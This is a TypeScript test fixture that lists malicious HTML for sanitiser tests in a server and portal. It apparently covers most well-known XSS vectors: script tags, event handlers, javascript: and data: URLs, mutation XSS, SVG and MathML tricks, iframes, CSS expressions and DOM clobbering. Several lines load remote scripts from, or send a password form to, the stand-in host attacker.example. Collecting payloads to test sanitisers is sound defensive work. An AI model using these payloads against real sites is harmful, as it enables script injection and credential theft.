/*
 * Malicious HTML that was used against editors, sanitisers and browsers. Each text tries to call `run` or to load something from
 * `foreign`. The tests of the server and of the portal use them.
 */

/** JavaScript of the attacks, which a test detects when it runs. It sets a property of the window and opens a dialog. */
export const run = 'window.attacked=1;alert(1)';
/** Origin of a foreign host, to which the HTML of attacks must never send a request. */
export const foreign = 'https://attacker.example';

const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<script src="${foreign}/x.js"></script>`,
  `<script src=//attacker.example/x.js></script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<<script>script>${run}<</script>/script>`,
  `<script/x>${run}</script >`,
  `<script type="module">import "${foreign}/m.js"</script>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:text/javascript,${run}"/></svg>`,
  `</p><script>${run}</script>`,
  `<noscript><p title="</noscript><script>${run}</script>">x</p></noscript>`,
];

const handlers = [
  `<img src=x onerror="${run}">`,
  `<img src=x onerror=alert(1)//`,
  `<img/src=x/onerror=alert(1)>`,
  `<img src="x" OnErRoR="${run}">`,
  `<img src='x' onerror\t=\n"${run}">`,
  `<img src=x onerror="&#97;lert(1)">`,
  `<img """><script>${run}</script>">`,
  `<img src=x:x onerror="${run}" /files/blog/x.webp>`,
  `<body onload="${run}">`,
  `<p onclick="${run}" onmouseover="${run}">hover</p>`,
  `<p style="animation-name:x" onanimationstart="${run}">anim</p>`,
  `<details open ontoggle="${run}"><summary>s</summary></details>`,
  `<input autofocus onfocus="${run}">`,
  `<select autofocus onfocus="${run}"><option>o</option></select>`,
  `<textarea autofocus onfocus="${run}">t</textarea>`,
  `<video><source onerror="${run}"></video>`,
  `<audio src=x onerror="${run}"></audio>`,
  `<marquee onstart="${run}">m</marquee>`,
  `<a href="#" onfocus="${run}" autofocus tabindex=1>focus</a>`,
  `<div contenteditable onbeforeinput="${run}" onfocus="${run}" autofocus>e</div>`,
  `<p\u000conclick="${run}">form feed</p>`,
];

const addresses = [
  `<a href="javascript:${run}">js</a>`,
  `<a href="JaVaScRiPt:${run}">case</a>`,
  `<a href=" javascript:${run}">space</a>`,
  `<a href="java\tscript:${run}">tab</a>`,
  `<a href="java\nscript:${run}">line</a>`,
  `<a href="&#106;avascript:${run}">entity</a>`,
  `<a href="&#x6A;&#x61;vascript:${run}">hex entity</a>`,
  `<a href="javascript&colon;${run}">named entity</a>`,
  `<a href="java&Tab;script:${run}">tab entity</a>`,
  `<a href="java&NewLine;script:${run}">line entity</a>`,
  `<a href="&#1;javascript:${run}">control</a>`,
  `<a href="\u0001\u001fjavascript:${run}">controls</a>`,
  `<a href="javascript://%0a${run}">comment</a>`,
  `<a href="vbscript:msgbox(1)">vb</a>`,
  `<a href="data:text/html,<script>${run}</script>">data</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">base64</a>`,
  `<a href="blob:https://attacker.example/1">blob</a>`,
  `<a href="file:///etc/passwd">file</a>`,
  `<a href="feed:javascript:${run}">feed</a>`,
  `<a href="view-source:javascript:${run}">source</a>`,
  `<a href="https://portal@attacker.example/">user info</a>`,
  `<a href="/\\attacker.example/">backslash</a>`,
  `<a href="/.//attacker.example/">dots</a>`,
  `<a href=javascript:alert(1) ping=${foreign}>ping</a>`,
  `<img src="javascript:${run}">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
  `<img src="${foreign}/pixel.gif">`,
  `<img src="//attacker.example/pixel.gif">`,
  `<img srcset="${foreign}/a.png 1x" src="/files/blog/../../graphql">`,
  `<img src="/files/blog/x.svg" lowsrc="${foreign}/l.gif" dynsrc="${foreign}/d.gif">`,
  `<img src="/uploads/users/1/avatar">`,
];

const foreignContent = [
  `<svg onload="${run}"></svg>`,
  `<svg/onload=alert(1)>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text x="9" y="9">t</text></a></svg>`,
  `<svg><set attributeName="href" to="javascript:${run}"/></svg>`,
  `<svg><foreignObject><img src=x onerror="${run}"></foreignObject></svg>`,
  `<svg><image href="${foreign}/i.png"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"/></svg>`,
  `<math><mi xlink:href="javascript:${run}">m</mi></math>`,
  `<math><maction actiontype="statusline#${foreign}" xlink:href="javascript:${run}">click</maction></math>`,
];

/** HTML that one parser reads as harmless, and the next as a script. */
const mutations = [
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg><textarea><img src=x onerror="${run}"></textarea></svg>`,
  `<p><template><s><template><img src=x onerror="${run}"></template></s></template></p>`,
  `<noscript><style></noscript><img src=x onerror="${run}">`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=${run}>">`,
  `<p title="&lt;/p&gt;&lt;script&gt;${run}&lt;/script&gt;">title</p>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<!--><script>${run}</script>-->`,
  `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
  `<?xml version="1.0"?><?import namespace="t" implementation="${foreign}"?>`,
  `<xss:script xmlns:xss="http://www.w3.org/1999/xhtml">${run}</xss:script>`,
  `<a href="x" title="a\`b"onclick=${run} ">backtick</a>`,
  `<x/><title><!--</title><img src=x onerror="${run}"><title>--></title>`,
];

const pages = [
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<iframe src="${foreign}"></iframe>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<embed src="javascript:${run}">`,
  `<frameset><frame src="javascript:${run}"></frameset>`,
  `<form action="javascript:${run}"><button>send</button></form>`,
  `<form id=f action="${foreign}"></form><button form=f formaction="javascript:${run}">b</button>`,
  `<form action="${foreign}"><input name=password type=password></form>`,
  `<isindex action="javascript:${run}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<meta http-equiv="refresh" content="0;url=${foreign}">`,
  `<base href="${foreign}/">`,
  `<link rel="stylesheet" href="${foreign}/x.css">`,
  `<link rel="import" href="${foreign}/x.html">`,
  `<link rel="prefetch" href="${foreign}/p"><link rel="dns-prefetch" href="//attacker.example">`,
  `<portal src="${foreign}"></portal>`,
  `<applet code="x" archive="${foreign}/x.jar"></applet>`,
  `<dialog open>fake sign-in</dialog>`,
];

const styles = [
  `<style>@import "${foreign}/x.css";</style>`,
  `<style>body{display:none}</style>`,
  `<p style="background:url(${foreign}/bg.png)">background</p>`,
  `<p style="width:expression(${run})">expression</p>`,
  `<p style="-moz-binding:url(${foreign}/x.xml#x)">binding</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">cover</p>`,
  `<p style="behavior:url(${foreign}/x.htc)">behavior</p>`,
  `<font color="red" size=7>font</font>`,
  `<table background="${foreign}/t.png"><tr><td background="${foreign}/d.png">cell</td></tr></table>`,
  `<p class="chakra-button" id="root">class</p>`,
];

/** Elements with the names of properties that a page's scripts use (DOM clobbering). */
const clobbering = [
  `<img name="cookie"><img id="body">`,
  `<form id="attributes"><input name="attributes"></form>`,
  `<a id="location" href="${foreign}">location</a>`,
  `<a id="defaultView"></a><a id="defaultView" name="x"></a>`,
  `<form name="getElementById"></form><p id="getElementById">name</p>`,
  `<p id="__proto__" name="constructor">proto</p>`,
];

/** Malicious HTML for tests of sanitising. All elements are closed, so that many attacks fit into one document. */
export const attacks: readonly string[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...foreignContent,
  ...mutations,
  ...pages,
  ...styles,
  ...clobbering,
];

/** Malicious HTML with unclosed elements for tests of sanitising. These elements swallow, or try to swallow, the HTML after them. */
export const openAttacks: readonly string[] = [
  `<script>${run}`,
  `<img src=x onerror="${run}`,
  `<style><img src=x onerror="${run}">`,
  `<textarea><img src=x onerror="${run}">`,
  `<title><img src=x onerror="${run}">`,
  `<iframe><img src=x onerror="${run}">`,
  `<plaintext><img src=x onerror="${run}">`,
  `<xmp><img src=x onerror="${run}">`,
  `<noembed><img src=x onerror="${run}">`,
  `<!-- <img src=x onerror="${run}">`,
  `<a href="javascript:${run}`,
  `<svg><style><img src=x onerror="${run}">`,
  `<img src='${foreign}/?`,
  `<base target='`,
];
